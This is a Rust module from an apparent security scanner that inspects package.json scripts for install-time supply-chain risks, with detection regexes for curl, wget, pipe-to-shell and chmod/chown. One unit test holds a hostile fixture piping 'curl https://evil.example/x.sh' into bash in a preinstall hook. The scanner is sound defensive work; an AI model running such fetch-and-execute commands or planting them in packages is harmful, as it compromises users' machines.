use regex::Regex;
use std::sync::OnceLock;
use vigil_common::{Finding, FindingSource, Severity};

const INSTALL_SCRIPT_NAMES: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "prepublishOnly",
    "prepack",
    "postpack",
];

fn downloader_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?i)\b(curl|wget)\b").unwrap())
}

fn pipe_to_shell_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?i)\b(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(sh|bash|zsh)\b").unwrap())
}

fn chmod_chown_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\b(chmod|chown)\s+").unwrap())
}

/// Parse a `package.json`'s `scripts` map and flag install-time supply-chain
/// risk (spec.md §4.3 "package.json script scanner"). `line` is always
/// `None`: script bodies are JSON string values with no reliable source
/// line, matching the reference behavior of reporting file-level findings
/// for this heuristic.
pub fn scan(content: &str, file: &str) -> Vec<Finding> {
    let Ok(value) = serde_json::from_str::<serde_json::Value>(content) else {
        return Vec::new();
    };
    let Some(scripts) = value.get("scripts").and_then(|v| v.as_object()) else {
        return Vec::new();
    };

    let mut findings = Vec::new();
    for (name, command_value) in scripts {
        let Some(command) = command_value.as_str() else {
            continue;
        };

        if INSTALL_SCRIPT_NAMES.contains(&name.as_str()) {
            findings.push(finding(
                "SUPPLY_CHAIN_INSTALL_SCRIPT",
                Severity::Medium,
                file,
                format!("install-time script \"{name}\" runs: {command}"),
                "supply_chain",
            ));

            if pipe_to_shell_re().is_match(command) {
                findings.push(finding(
                    "SUPPLY_CHAIN_REMOTE_EXEC",
                    Severity::Critical,
                    file,
                    format!("install-time script \"{name}\" pipes a downloaded payload into a shell: {command}"),
                    "supply_chain",
                ));
            } else if downloader_re().is_match(command) {
                findings.push(finding(
                    "SUPPLY_CHAIN_REMOTE_FETCH",
                    Severity::High,
                    file,
                    format!("install-time script \"{name}\" fetches a remote resource: {command}"),
                    "supply_chain",
                ));
            }
        }

        if chmod_chown_re().is_match(command) {
            findings.push(finding(
                "SUPPLY_CHAIN_PERMISSION_CHANGE",
                Severity::High,
                file,
                format!("script \"{name}\" changes file permissions or ownership: {command}"),
                "supply_chain",
            ));
        }
    }

    findings
}

fn finding(rule_id: &str, severity: Severity, file: &str, message: String, category: &str) -> Finding {
    Finding {
        rule_id: rule_id.to_string(),
        severity,
        message,
        file: file.to_string(),
        line: None,
        category: Some(category.to_string()),
        remediation: Some(
            "Review install-time scripts for unreviewed network access before trusting this package.".to_string(),
        ),
        source: FindingSource::Heuristic,
        confidence: None,
        confidence_reason: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn non_json_content_yields_no_findings() {
        assert!(scan("not json", "/package.json").is_empty());
    }

    #[test]
    fn plain_install_script_is_flagged_medium() {
        let pkg = r#"{"scripts": {"postinstall": "node setup.js"}}"#;
        let findings = scan(pkg, "/package.json");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_INSTALL_SCRIPT");
        assert_eq!(findings[0].severity, Severity::Medium);
    }

    #[test]
    fn remote_fetch_in_install_script_adds_high_finding() {
        let pkg = r#"{"scripts": {"postinstall": "curl https://example.com/setup.sh -o setup.sh"}}"#;
        let findings = scan(pkg, "/package.json");
        assert!(findings.iter().any(|f| f.rule_id == "SUPPLY_CHAIN_REMOTE_FETCH"));
    }

    #[test]
    fn piped_remote_exec_in_install_script_is_critical() {
        let pkg = r#"{"scripts": {"preinstall": "curl https://evil.example/x.sh | bash"}}"#;
        let findings = scan(pkg, "/package.json");
        assert!(findings
            .iter()
            .any(|f| f.rule_id == "SUPPLY_CHAIN_REMOTE_EXEC" && f.severity == Severity::Critical));
        assert!(!findings.iter().any(|f| f.rule_id == "SUPPLY_CHAIN_REMOTE_FETCH"));
    }

    #[test]
    fn chmod_in_any_script_is_flagged() {
        let pkg = r#"{"scripts": {"build": "chmod +x ./dist/bin"}}"#;
        let findings = scan(pkg, "/package.json");
        assert!(findings.iter().any(|f| f.rule_id == "SUPPLY_CHAIN_PERMISSION_CHANGE"));
    }

    #[test]
    fn non_install_script_without_chmod_or_fetch_is_clean() {
        let pkg = r#"{"scripts": {"test": "jest"}}"#;
        assert!(scan(pkg, "/package.json").is_empty());
    }
}
